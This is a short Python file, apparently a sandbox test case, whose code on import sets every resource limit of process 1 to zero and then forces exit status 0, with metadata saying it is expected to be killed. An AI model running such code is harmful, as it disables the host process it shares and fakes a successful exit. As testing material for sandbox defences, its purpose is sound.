"""Take every limit of the sandbox's server down to nothing when the file is imported.

earns: nothing
outcome: killed
says: broke the sandbox|status 0
levels: bubblewrap uid
"""

import contextlib
import os
import resource

for name in dir(resource):
    if name.startswith("RLIMIT_"):
        with contextlib.suppress(OSError, PermissionError, ValueError):
            resource.prlimit(1, getattr(resource, name), (0, 0))
os._exit(0)
